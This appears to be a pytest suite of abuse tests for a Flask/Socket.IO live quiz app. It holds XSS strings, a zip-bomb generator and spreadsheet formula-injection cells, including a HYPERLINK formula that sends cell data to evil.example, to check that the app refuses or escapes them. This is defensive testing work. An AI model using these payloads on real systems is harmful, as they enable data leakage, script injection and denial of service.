"""Bad input and abuse: the app keeps serving and nothing stored changes.

Malformed, oversized and wrongly typed Socket.IO payloads for every client event; unknown events; a phone
claiming someone else's identity; replayed, duplicate and out-of-turn answers; host events from a phone and
the projector; code guessing; script and markup in every text a person can enter, on every page and in the
socket states; POSTs without a CSRF token; hostile uploads; security headers on every page."""

from __future__ import annotations

import csv
import io
import re
import threading
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import requests
import socketio as socketio_client
from flask import Flask
from sqlalchemy import Engine, create_engine, func, select

from core.accounts.roles import Role
from core.db import Base
from core.realtime import MAX_MESSAGE_BYTES, socketio
from core.throttle import LOCKED_MESSAGE
from question_bank.transfer.columns import EXPORT_COLUMNS
from quiz.live import attendance, protocol
from quiz.live import hosting as live
from quiz.live.models import Answer, Meeting, MeetingEvent, Round
from quiz.live.publish import COUNT_INTERVAL_S
from quiz.quarter.models import Quarter, QuarterResult
from quiz.review import service as reviewing
from quiz.review.models import Commitment, ReviewItem
from quiz.roster.models import Person, Unit
from tests.factories import csrf_token, follow_job, job_download, login, make_host, make_question, make_user
from tests.live_server import claim, live_server, seat_codes, staff_session
from tests.quiz.conftest import make_meeting
from tests.quiz.quarter.test_reports import WEIGHTS, build_meeting, full

HOST = "host1"
CHINESE = re.compile(r"[\u4e00-\u9fff]")
OVERSIZED = "题" * MAX_MESSAGE_BYTES  # three bytes each in UTF-8: three times over the limit
BAD_VALUES: list[Any] = [None, True, -1, 0, 2**70, 1.5, "", "<script>alert(1)</script>", OVERSIZED, [], [[1]],
                         {}, {"$ne": None}, ["A"] * 1000]
BAD_PAYLOADS: list[Any] = [None, "", "text", 42, True, [], [1, 2], {}, {"rev": "x"}, OVERSIZED,
                           {"a": {"b": {"c": {"d": [[[[{}]]]]}}}}]


# Helpers


@pytest.fixture(autouse=True)
def fresh_limiter(request: pytest.FixtureRequest):  # type: ignore[no-untyped-def]
    """Each test on the app starts with a fresh guessing limiter and leaves none behind."""
    extensions = request.getfixturevalue("app").extensions if "app" in request.fixturenames else {}
    extensions.pop("throttle", None)
    yield
    extensions.pop("throttle", None)


def row_counts(app: Flask) -> dict[str, int]:
    """Rows in every table, read on a connection of their own (the test's session may hold a snapshot)."""
    return counts_on(app.extensions["db"].engine)


def counts_on(engine: Engine) -> dict[str, int]:
    """Rows of every table of the meeting's and the bank's data; `jobs` is left out: a refused upload is still
    a job that ran (and failed with its reason), not data."""
    with engine.connect() as connection:
        return {t.name: connection.scalar(select(func.count()).select_from(t)) for t in Base.metadata.sorted_tables
                if t.name != "jobs"}


def client_at(app: Flask, address: str):  # type: ignore[no-untyped-def]
    """A test client whose requests come from `address`."""
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def refused(reply: Any) -> bool:
    """A refusal with a Chinese reason."""
    return isinstance(reply, dict) and reply.get("ok") is False and bool(CHINESE.search(reply.get("error", "")))


def command(session, meeting, action):  # type: ignore[no-untyped-def]
    """A host command the way the socket boundary runs it: begin at the current revision, act, commit."""
    live.begin(session, meeting.id, meeting.revision)
    result = action()
    session.commit()
    return result


def live_meeting(session):  # type: ignore[no-untyped-def]
    """A meeting with every phone checked in (device dev-<n>), a review vote open and a question open."""
    meeting = make_meeting(session)
    for number, attendee in enumerate(meeting.attendees):
        attendance.check_in(session, attendee, f"dev-{number}")
    question = make_question(session)
    session.commit()
    review = next(s for s in meeting.segments if s.kind == "review")
    command(session, meeting, lambda: live.set_segment(session, meeting, review.id, HOST))
    item = reviewing.items_of(session, review.id)[0]
    command(session, meeting, lambda: reviewing.select_item(session, meeting, item.id, HOST))
    command(session, meeting, lambda: reviewing.open_vote(session, meeting, HOST))
    command(session, meeting, lambda: live.pick_question(session, meeting, question.id, "all", HOST))
    command(session, meeting, lambda: live.show(session, meeting, HOST))
    return meeting


def phone(app: Flask, meeting, number: int = 0, device: str | None = None):  # type: ignore[no-untyped-def]
    attendee = meeting.attendees[number]
    return socketio.test_client(app, auth={"code": attendee.code, "device": device or f"dev-{number}"})


def host(app: Flask, client, session, meeting):  # type: ignore[no-untyped-def]
    login(client, make_host(session, meeting))
    connection = socketio.test_client(app, auth={"meeting_id": meeting.id}, flask_test_client=client)
    assert connection.is_connected()
    return connection


def current_round(session, meeting) -> Round:  # type: ignore[no-untyped-def]
    session.expire_all()
    return session.get(Round, session.get(Meeting, meeting.id).current_round_id)


# Socket.IO payloads


def test_phone_events_refuse_malformed_and_wrongly_typed_payloads(app, session):
    meeting = live_meeting(session)
    sio = phone(app, meeting, 2)  # of 单位2: may rate 单位1, whose vote is open
    round_id = current_round(session, meeting).id
    item_id = session.get(Meeting, meeting.id).current_review_id
    before = row_counts(app)
    client_ids = [v for v in BAD_VALUES if not (isinstance(v, str) and 0 < len(v) <= 40)]
    answers = [*BAD_PAYLOADS, *({"round_id": round_id, "client_id": "c1", "answer": v} for v in BAD_VALUES),
               *({"round_id": v, "client_id": "c1", "answer": "A"} for v in BAD_VALUES),
               *({"round_id": round_id, "client_id": v, "answer": "A"} for v in client_ids)]
    for payload in answers:
        assert refused(sio.emit(protocol.SUBMIT_ANSWER, payload, callback=True)), payload
    ratings = [*BAD_PAYLOADS, *({"item_id": item_id, "ballot": v} for v in BAD_VALUES),
               *({"item_id": item_id, "ballot": {"rating": v}} for v in BAD_VALUES),
               *({"item_id": v, "ballot": {"rating": "满意"}} for v in BAD_VALUES)]
    for payload in ratings:
        assert refused(sio.emit(protocol.SUBMIT_RATING, payload, callback=True)), payload
    for payload in BAD_PAYLOADS:
        assert sio.emit(protocol.SYNC, payload, callback=True)["ok"] is True
        assert isinstance(sio.emit(protocol.CLOCK, payload, callback=True)["server_now_ms"], int)
    assert row_counts(app) == before
    assert sio.is_connected() and sio.emit(protocol.SYNC, callback=True)["state"]["round"]["id"] == round_id


# The fields each host command reads, by kind: each gets every value that is wrong for its kind in turn.
INT_FIELDS = {"segment_id", "attendee_id", "deputy_id", "question_id", "seconds", "item_id", "commitment_id",
              "min_difficulty", "max_difficulty"}
FREE_TEXT_FIELDS = {"keyword", "category", "reason", "text", "note"}  # any short string is a valid value
HOST_FIELDS = {
    "set_segment": ["segment_id"], "draw_person": ["pool", "keyword"], "redraw_person": ["pool", "reason"],
    "exclude_person": ["attendee_id"], "include_person": ["attendee_id"],
    "draw_question": ["mode", "types", "category", "min_difficulty", "max_difficulty"],
    "pick_question": ["question_id", "mode"], "extend_question": ["seconds"], "replace_question": ["reason"],
    "score_oral": ["ticked"], "set_attendance": ["attendee_id", "status", "deputy_id"],
    "approve_device": ["attendee_id"], "release_device": ["attendee_id"], "review_select": ["item_id"],
    "review_part": ["part"], "review_speech": ["action"], "review_comment": ["text"],
    "review_commitment": ["kind", "text"], "review_rate_commitment": ["commitment_id", "kept"],
    "paper_tally": ["item_id", "counts", "note"],
}


def valid_fields(session, meeting) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    """A valid value for every field, from this meeting."""
    meeting = session.get(Meeting, meeting.id)
    return {"segment_id": meeting.segments[0].id, "pool": "secretaries", "keyword": "", "reason": "本人请假",
            "attendee_id": meeting.attendees[0].id, "deputy_id": meeting.attendees[1].id, "status": "deputized",
            "mode": "all", "types": ["single"], "category": "", "min_difficulty": 1, "max_difficulty": 5,
            "question_id": current_round(session, meeting).question_id, "seconds": 30, "ticked": [0],
            "item_id": meeting.current_review_id, "part": "plans", "action": "start", "text": "整改",
            "kind": "plan", "commitment_id": 1, "kept": "kept", "counts": {"满意": 1}, "note": ""}


def wrong_values(field: str) -> list[Any]:
    """Every value of BAD_VALUES that is wrong for this field (also inside its list or mapping)."""
    if field in FREE_TEXT_FIELDS:
        return [v for v in BAD_VALUES if not (isinstance(v, str) and len(v) <= 200)]
    if field in ("types", "ticked"):
        return [*BAD_VALUES, *([v] for v in BAD_VALUES if not isinstance(v, int) or isinstance(v, bool))]
    if field == "counts":
        return [*BAD_VALUES, *({"满意": v} for v in BAD_VALUES if v != 0), {"满意": 1, "全票": 1}]
    return BAD_VALUES


def test_every_host_command_refuses_malformed_and_wrongly_typed_payloads(app, client, session):
    meeting = live_meeting(session)
    console = host(app, client, session, meeting)
    fields = valid_fields(session, meeting)
    before = row_counts(app)
    rev = console.emit(protocol.SYNC, callback=True)["state"]["rev"]
    for name in protocol.HOST_COMMANDS:
        for payload in [*BAD_PAYLOADS, *({"rev": v} for v in BAD_VALUES)]:
            assert refused(console.emit(name, payload, callback=True)), (name, payload)
        valid = {"rev": rev} | {field: fields[field] for field in HOST_FIELDS.get(name, [])}
        for field in HOST_FIELDS.get(name, []):
            for value in wrong_values(field):
                reply = console.emit(name, valid | {field: value}, callback=True)
                assert refused(reply), (name, field, value, reply)
    assert row_counts(app) == before
    assert console.emit(protocol.SYNC, callback=True)["state"]["rev"] == rev


def test_paper_tallies_for_criteria_must_be_numbers_for_every_criterion(app, client, session):
    criteria = [{"name": "抓党建成效", "weight": 2.0}, {"name": "问题查摆", "weight": 1.0}]
    meeting = make_meeting(session, settings={"review": {"criteria": criteria}})
    review = next(s for s in meeting.segments if s.kind == "review")
    command(session, meeting, lambda: live.set_segment(session, meeting, review.id, HOST))
    item_id = reviewing.items_of(session, review.id)[0].id
    console = host(app, client, session, meeting)
    before = row_counts(app)
    for counts in [{"ballots": 3, "sums": {"抓党建成效": "很多", "问题查摆": 20}}, {"ballots": 3, "sums": {}},
                   {"ballots": 3, "sums": {"抓党建成效": 20}},
                   {"ballots": True, "sums": {"抓党建成效": 20, "问题查摆": 20}},
                   {"ballots": 3, "sums": {"抓党建成效": [], "问题查摆": 20}},
                   {"ballots": 3, "sums": {"抓党建成效": -5, "问题查摆": 20}}]:
        rev = console.emit(protocol.SYNC, callback=True)["state"]["rev"]
        reply = console.emit("paper_tally", {"rev": rev, "item_id": item_id, "counts": counts}, callback=True)
        assert refused(reply), (counts, reply)
    assert row_counts(app) == before
    rev = console.emit(protocol.SYNC, callback=True)["state"]["rev"]
    good = {"ballots": 3, "sums": {"抓党建成效": 24, "问题查摆": 21.5}}
    assert console.emit("paper_tally", {"rev": rev, "item_id": item_id, "counts": good}, callback=True)["ok"]
    assert console.emit(protocol.SYNC, callback=True)["ok"]


def test_unknown_events_and_extra_arguments_are_dropped_or_refused(app, session):
    meeting = live_meeting(session)
    sio = phone(app, meeting, 2)
    before = row_counts(app)
    for name in ["drop_table", "__proto__", "constructor", "state", "result", "answer_count", "x" * 5000]:
        assert sio.emit(name, {"rev": 1}, callback=True) is None  # no handler: dropped, nothing answered
    for name in [protocol.SUBMIT_ANSWER, protocol.SUBMIT_RATING, *protocol.HOST_COMMANDS]:
        reply = sio.emit(name, {"round_id": 1}, {"more": 1}, "and more", callback=True)
        assert reply is None or refused(reply), (name, reply)
    assert row_counts(app) == before | {"meeting_events": before["meeting_events"] + len(protocol.HOST_COMMANDS)}
    assert sio.is_connected() and sio.emit(protocol.SYNC, callback=True)["ok"]


def test_a_phone_cannot_reidentify_by_sending_a_connect_event(app, session):
    meeting = live_meeting(session)
    sio = phone(app, meeting, 2)
    # python-socketio hands a client's own event named "connect" to the connect handler, auth as second argument
    assert not sio.emit("connect", {}, {"screen": meeting.screen_token}, callback=True)
    assert not sio.emit("disconnect", "client namespace disconnect", callback=True)
    state = sio.emit(protocol.SYNC, callback=True)["state"]
    assert state["me"]["id"] == meeting.attendees[2].id and "roll" not in state


# Identity, replays and rounds that do not take answers


@pytest.fixture()
def settled():  # type: ignore[no-untyped-def]
    """For tests that store answers or check phones in: let the count ticker's pass (it queries a quarter
    second later) finish before the tables are emptied, or PostgreSQL's TRUNCATE may deadlock with it."""
    yield
    time.sleep(2 * COUNT_INTERVAL_S)


def answer(sio, round_id: int, choice: Any = "A", client_id: str = "c1"):  # type: ignore[no-untyped-def]
    return sio.emit(protocol.SUBMIT_ANSWER, {"round_id": round_id, "client_id": client_id, "answer": choice},
                    callback=True)


def test_a_phone_cannot_claim_another_attendees_identity(app, session, settled):
    meeting = live_meeting(session)
    mine, theirs = meeting.attendees[2], meeting.attendees[4]
    assert not socketio.test_client(app, auth={"code": theirs.code, "device": "dev-2"}).is_connected()
    sio = phone(app, meeting, 2)
    round_id = current_round(session, meeting).id
    sent = sio.emit(protocol.SUBMIT_ANSWER, {"round_id": round_id, "client_id": "c1", "answer": "A",
                                             "attendee_id": theirs.id}, callback=True)
    assert sent["ok"]
    session.expire_all()
    assert [a.attendee_id for a in session.scalars(select(Answer))] == [mine.id]  # the connection says who


def test_replayed_and_duplicate_answers_are_stored_once(app, session, settled):
    meeting = live_meeting(session)
    sio = phone(app, meeting, 2)
    round_id = current_round(session, meeting).id
    first = answer(sio, round_id, "A")
    assert first == {"ok": True, "answer": "A", "round_id": round_id, "repeat": False}
    assert answer(sio, round_id, "A") == first  # a retry after a lost ack
    assert answer(sio, round_id, "B", "c2") == first | {"repeat": True}  # a second answer gets the first back
    second_phone = phone(app, meeting, 2)  # the same phone reconnected replays its answer
    assert answer(second_phone, round_id, "B", "c3")["answer"] == "A"
    assert session.scalar(select(func.count()).select_from(Answer)) == 1


def test_closed_replaced_unshown_and_other_meetings_rounds_take_no_answers(app, session):
    meeting = live_meeting(session)
    sio = phone(app, meeting, 2)
    shown = current_round(session, meeting)
    command(session, meeting, lambda: live.clock_command(session, meeting, "close", HOST))
    assert answer(sio, shown.id) == {"ok": False, "error": "作答时间已结束，本次作答未被记录"}
    command(session, meeting, lambda: live.next_question(session, meeting, HOST))
    preview = command(session, meeting, lambda: live.pick_question(session, meeting, make_question(session).id,
                                                                   "all", HOST))
    assert refused(answer(sio, preview.id))  # the phone never saw it, but ids can be guessed
    command(session, meeting, lambda: live.replace(session, meeting, "题目有误", HOST))
    assert refused(answer(sio, preview.id))
    other = live_meeting(session)  # another meeting's open round
    assert refused(answer(sio, current_round(session, other).id))
    assert session.scalar(select(func.count()).select_from(Answer)) == 0


def test_host_events_from_a_phone_or_the_projector_are_refused_and_logged(app, session):
    meeting = live_meeting(session)
    before = row_counts(app)
    clients = [phone(app, meeting, 2), socketio.test_client(app, auth={"screen": meeting.screen_token})]
    for sio in clients:
        assert sio.is_connected()
        for name in protocol.HOST_COMMANDS:
            rev = session.get(Meeting, meeting.id).revision
            assert sio.emit(name, {"rev": rev}, callback=True) == {"ok": False, "error": "只有主持人可以操作会议"}
    refusals = 2 * len(protocol.HOST_COMMANDS)
    assert row_counts(app) == before | {"meeting_events": before["meeting_events"] + refusals}
    session.expire_all()
    logged = session.scalars(select(MeetingEvent).order_by(MeetingEvent.id.desc()).limit(refusals)).all()
    assert {(e.kind, e.detail["connection"]) for e in logged} == {("refused_host_event", "phone"),
                                                                 ("refused_host_event", "screen")}


# Code guessing


def test_guessing_codes_is_locked_out_everywhere_and_stores_nothing(app, session):
    meeting = live_meeting(session)
    code = meeting.attendees[0].code
    before = row_counts(app)
    typist = client_at(app, "198.51.100.7")
    for number in range(10):
        assert typist.post(f"/j/{meeting.join_code}", data={"code": f"GUESS{number:03d}"}).status_code == 422
    locked = typist.post(f"/j/{meeting.join_code}", data={"code": "GUESS999"})
    assert locked.status_code == 429 and LOCKED_MESSAGE in locked.get_data(as_text=True)
    # A right code is never refused (a neighbour on the same NAT address): guessing is locked, not joining.
    assert typist.post(f"/j/{meeting.join_code}", data={"code": code}).status_code == 302
    opener = client_at(app, "198.51.100.8")
    for number in range(10):
        assert opener.get(f"/p/NOPE{number:04d}").status_code == 404
    assert opener.get("/p/NOPE9999").status_code == 429
    dialer = client_at(app, "198.51.100.9")
    wrong_codes = [f"{number:06d}" for number in range(12) if f"{number:06d}" != meeting.join_code][:11]
    for join_code in wrong_codes[:10]:
        assert dialer.get(f"/j/{join_code}").status_code == 404
    assert LOCKED_MESSAGE in dialer.get(f"/j/{wrong_codes[10]}").get_data(as_text=True)
    assert dialer.get(f"/j/{meeting.join_code}").status_code == 200
    socket_guesser = client_at(app, "198.51.100.10")
    for number in range(11):
        sio = socketio.test_client(app, auth={"code": code, "device": f"guess-{number}"},
                                   flask_test_client=socket_guesser)
        assert not sio.is_connected()
    assert row_counts(app) == before
    assert client_at(app, "198.51.100.11").get(f"/j/{meeting.join_code}").status_code == 200


# Script and markup in everything people type


SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
ESCAPED = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;")


def hostile_meeting(session):  # type: ignore[no-untyped-def]
    """The reports' meeting and approved quarter, with script and markup in every text a person can enter."""
    meeting = build_meeting(session)
    for number, unit in enumerate(session.scalars(select(Unit).order_by(Unit.id))):
        unit.name = f"{(SCRIPT, IMG)[number % 2]}单位{number}"
    for number, person in enumerate([*session.scalars(select(Person)), *meeting.attendees]):
        person.name = f"{(IMG, SCRIPT)[number % 2]}{number}"
    meeting.title = f"{SCRIPT}书记问效会"
    rounds = session.scalars(select(Round).where(Round.meeting_id == meeting.id).order_by(Round.id)).all()
    for round_ in rounds:
        round_.question = round_.question | {"stem": f"{SCRIPT}题干（　　）", "options": [IMG, SCRIPT]}
    items = session.scalars(select(ReviewItem).where(ReviewItem.meeting_id == meeting.id)).all()
    for item in items:
        item.comment = f"{IMG}点评"
    for commitment in session.scalars(select(Commitment)):
        commitment.text = f"{SCRIPT}承诺"
    meeting.current_round_id, meeting.current_review_id = rounds[-2].id, items[0].id
    meeting.current_segment_id = items[0].segment_id
    attendance.check_in(session, meeting.attendees[0], "dev-0")
    question = make_question(session, stem=f"{SCRIPT}党的最高理想是（　　）", options=[IMG, "发家致富"],
                             explanation=IMG, source=SCRIPT)
    session.commit()
    return meeting, question


def assert_escaped(page: str, path: str, shown: bool = True) -> None:
    assert "<script>alert" not in page and "<img src=x" not in page, path
    assert not shown or any(marker in page for marker in ESCAPED), f"{path} shows none of the hostile texts"


def test_script_and_markup_are_escaped_on_every_page(app, client, session):
    meeting, question = hostile_meeting(session)
    unit = session.scalars(select(Unit).order_by(Unit.id)).first()
    person = session.scalars(select(Person)).first()
    attendee = meeting.attendees[0]
    login(client, make_user(session, Role.ADMIN))
    paths = ["/bank/", f"/bank/{question.id}", f"/bank/{question.id}/preview",
             f"/bank/{question.id}/preview/phone?reveal=1", f"/bank/{question.id}/preview/projector",
             "/roster/", "/roster/units", f"/roster/people/{person.id}",
             "/meetings/", f"/meetings/{meeting.id}/edit", f"/meetings/{meeting.id}/console",
             f"/meetings/{meeting.id}/prompt", f"/meetings/{meeting.id}/cards",
             f"/j/{meeting.join_code}", f"/p/{attendee.code}?d=dev-0", f"/s/{meeting.screen_token}",
             "/quarters/2026Q4", f"/quarters/2026Q4/units/{unit.id}", "/quarters/2026Q4/reveal",
             "/reports/quarter/2026Q4/print", f"/reports/meeting/{meeting.id}/minutes", f"/reports/unit/{unit.id}"]
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_escaped(response.get_data(as_text=True), path, shown=not path.endswith("/preview"))  # frames only


def test_script_and_markup_travel_as_data_in_socket_states(app, client, session):
    meeting, _question = hostile_meeting(session)
    viewers = {"host": host(app, client, session, meeting),
               "screen": socketio.test_client(app, auth={"screen": meeting.screen_token}),
               "phone": phone(app, meeting, 0)}
    for who, sio in viewers.items():
        state = sio.emit(protocol.SYNC, callback=True)["state"]
        assert state["meeting"]["title"] == f"{SCRIPT}书记问效会", who
        assert state["round"]["question"]["stem"] == f"{SCRIPT}题干（　　）", who
        assert state["round"]["question"]["options"] == [IMG, SCRIPT], who
        assert state["review"]["unit"].startswith((SCRIPT, IMG)), who
    host_state = viewers["host"].emit(protocol.SYNC, callback=True)["state"]
    assert all(a["name"].startswith((SCRIPT, IMG)) for a in host_state["attendees"])
    for sio in viewers.values():
        sio.disconnect()


def test_the_live_pages_scripts_never_parse_text_as_html():
    scripts = Path(__file__).resolve().parents[1] / "static" / "js"
    for script in scripts.glob("*.js"):
        source = script.read_text(encoding="utf-8")
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
            assert sink not in source, f"{script.name} uses {sink}"


# CSRF and security headers on every route


def rule_values(session, meeting, question) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """A real value for every URL argument the app's routes take."""
    person = session.scalars(select(Person)).first()
    return {"question_id": str(question.id), "meeting_id": str(meeting.id), "person_id": str(person.id),
            "unit_id": str(person.unit_id), "quarter": "2026Q4", "token": "staged-token",
            "code": meeting.attendees[0].code, "join_code": meeting.join_code, "fmt": "xlsx", "screen": "phone",
            "kind": "xlsx", "filename": "css/app.css", "job_id": "1",
            "venue_id": str(meeting.venues[-1].id)}


def routes(app: Flask, method: str, values: dict[str, str]) -> list[str]:
    """Every route that answers `method`, its arguments filled in."""
    paths = []
    for rule in app.url_map.iter_rules():
        if method in rule.methods:
            paths.append(re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: values[m.group(1)], rule.rule))
    return sorted(paths)


def test_every_post_route_refuses_a_form_without_its_csrf_token(app, client, session):
    """...but the two join forms, which every phone posts (quiz/live/views/public_pages.py): those refuse a
    form from another site by its Origin."""
    meeting = make_meeting(session)
    question = make_question(session)
    session.commit()
    paths = routes(app, "POST", rule_values(session, meeting, question))
    assert len(paths) >= 30 and "/login" in paths and f"/j/{meeting.join_code}" in paths
    anonymous = app.test_client()
    login(client, make_user(session, Role.ADMIN))
    before = row_counts(app)
    form = {"title": "改名", "stem": "x", "name": "张三", "username": "intruder", "password": "x" * 12,
            "action": "all", "code": meeting.attendees[0].code, "anonymous": "1", "join_code": meeting.join_code}
    joins = {"/j", f"/j/{meeting.join_code}"}
    for path in paths:
        for who in (client, anonymous):
            headers = {"Origin": "https://evil.example"} if path in joins else {}
            response = who.post(path, data=form, headers=headers)
            assert response.status_code == 400 or (who is anonymous and "/login" in response.headers.get(
                "Location", "")), (path, response.status_code)
    assert row_counts(app) == before


def test_security_headers_on_every_page(app, client, session, settled):
    meeting = make_meeting(session)
    question = make_question(session)
    session.commit()
    values = rule_values(session, meeting, question)
    login(client, make_user(session, Role.ADMIN))
    paths = routes(app, "GET", values) + ["/no-such-page", "/bank/999999", f"/s/{meeting.screen_token}x"]
    assert len(paths) >= 40
    for who in (client, app.test_client()):
        for path in paths:
            response = who.get(path)
            headers = response.headers
            assert "default-src 'self'" in headers.get("Content-Security-Policy", ""), path
            assert headers.get("X-Content-Type-Options") == "nosniff", path
            assert headers.get("Referrer-Policy") == "same-origin", path
            if response.mimetype == "text/html":
                assert headers.get("Cache-Control") == "no-cache", path
            response.close()


# Hostile uploads, end to end


OLD_EXCEL = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # an OLE2 (.xls) file renamed .xlsx
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+1", "+SUM(A1:A9)", "@cmd", "-2+3"]
IMPORT_PAGES = {"/bank/import": "/bank/import", "/roster/import": "/roster/import",
                "/quarters/2026Q4/daily": "/quarters/2026Q4"}


def zip_bomb() -> bytes:
    """A workbook-shaped archive under 200 KB that unpacks to 80 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (80 * 1024 * 1024))
    return buffer.getvalue()


def upload(client, path: str, data: bytes, name: str, form_page: str):  # type: ignore[no-untyped-def]
    response = client.post(path, data={"file": (io.BytesIO(data), name), "csrf_token": csrf_token(client, form_page)},
                           content_type="multipart/form-data")
    return follow_job(client, response)


def csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def test_zip_bombs_and_renamed_old_excel_files_are_refused_by_every_import_page(app, client, session):
    login(client, make_user(session, Role.ADMIN))
    before = row_counts(app)
    for path, form_page in IMPORT_PAGES.items():
        for data, phrase in [(zip_bomb(), "压缩炸弹"), (OLD_EXCEL, "旧版 Excel")]:
            response = upload(client, path, data, "名单.xlsx", form_page)
            assert phrase in response.get_data(as_text=True), (path, phrase)
    assert row_counts(app) == before
    assert client.get("/healthz").status_code == 200


def commit_upload(client, path: str, data: bytes, name: str):  # type: ignore[no-untyped-def]
    page = upload(client, path, data, name, path).get_data(as_text=True)
    token = re.search(rf'action="{path}/([^"]+)"', page).group(1)
    return follow_job(client, client.post(f"{path}/{token}", data={"action": "all",
                                                                   "csrf_token": csrf_token(client, path)}))


def xlsx_cells(data: bytes) -> list:  # type: ignore[type-arg]
    workbook = openpyxl.load_workbook(io.BytesIO(data))  # formulas kept as formulas, not their cached values
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_formula_cells_imported_into_the_bank_export_as_text(app, client, session):
    login(client, make_user(session, Role.ADMIN))
    stem = f"{FORMULAS[0]}党的最高理想是（　　）"
    header = list(EXPORT_COLUMNS[:EXPORT_COLUMNS.index("选项C")]) + ["答案", "解析", "分类", "出处"]
    row = ["单选", stem, FORMULAS[1], FORMULAS[2], "A", FORMULAS[3], "党章党规/党章", FORMULAS[4]]
    assert commit_upload(client, "/bank/import", csv_bytes([header, row]), "题库.csv").status_code == 200
    cells = xlsx_cells(job_download(client, "/bank/export.xlsx").data)
    formula_cells = [c for c in cells if str(c.value).startswith(("=", "+", "-", "@"))]
    assert {c.value for c in formula_cells} >= {stem, *FORMULAS[1:]}
    assert all(c.data_type == "s" for c in formula_cells)
    exported = list(csv.reader(io.StringIO(job_download(client, "/bank/export.csv").data.decode("utf-8-sig"))))
    texts = [cell for line in exported[1:] for cell in line]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in texts)
    assert "'" + stem in texts and "'" + FORMULAS[3] in texts


def test_formula_cells_imported_into_the_roster_reach_the_quarter_workbook_as_text(app, client, session):
    login(client, make_user(session, Role.ADMIN))
    rows = [["单位", "单位类型", "姓名", "职务", "第一责任人"], [FORMULAS[0], "", FORMULAS[1], FORMULAS[3], "是"]]
    assert commit_upload(client, "/roster/import", csv_bytes(rows), "名册.csv").status_code == 200
    unit = session.scalar(select(Unit))
    assert unit.name == FORMULAS[0]
    session.add(Quarter(quarter="2026Q4", weights=WEIGHTS, bottom_n=1, approved=True))
    session.add(QuarterResult(quarter="2026Q4", unit_id=unit.id, components=full(90), total=90, rank=1, grade="先进"))
    session.commit()
    workbook = job_download(client, "/reports/quarter/2026Q4.xlsx", None)
    assert workbook.status_code == 200
    named = [c for c in xlsx_cells(workbook.data) if c.value == FORMULAS[0]]
    assert named and all(c.data_type == "s" for c in named)


# Oversized messages on a real server


def test_an_oversized_message_drops_only_its_own_connection(tmp_path):
    url = f"sqlite:///{tmp_path / 'abuse.sqlite3'}"
    with live_server("eventlet", url) as server:
        with staff_session(server) as http:
            codes = seat_codes(server, http, server.demo_meeting_id)
        auth = {"code": codes[0], "device": claim(server, codes[0])}
        engine = create_engine(url)
        before = counts_on(engine)
        http = requests.Session()  # engine.io's client drops, without closing, a session it made itself
        bystander = socketio_client.Client(reconnection=False, http_session=http)
        bystander.connect(server.url, auth=auth, transports=["websocket"])
        for transport in ("websocket", "polling"):
            sender = socketio_client.Client(reconnection=False, http_session=http)
            gone = threading.Event()
            sender.on("disconnect", lambda *_, gone=gone: gone.set())
            sender.connect(server.url, auth=auth, transports=[transport])
            sender.emit(protocol.SUBMIT_ANSWER, {"round_id": 1, "client_id": "x", "answer": OVERSIZED})
            assert gone.wait(20), transport
            sender.disconnect()
            if sender.eio.ws is not None:  # dropped by the server: the client leaves its websocket open
                sender.eio.ws.shutdown()
        assert bystander.connected and bystander.call(protocol.SYNC, timeout=10)["ok"]
        bystander.disconnect()
        http.close()
        assert requests.get(server.url + "/healthz", timeout=5).status_code == 200
        after = counts_on(engine)
        engine.dispose()
    assert after == before
